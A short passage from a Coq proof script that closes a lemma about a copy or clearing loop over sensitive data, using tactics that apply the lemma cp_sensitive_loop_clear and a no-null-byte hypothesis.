    (cp_sensitive_loop_clear os src expanded _ sensitive_no_nul).
  - split; intros H s Hs; apply H; now apply Hl.
  - intros x Hx. apply sensitive_no_nul. now apply Hl.
Qed.
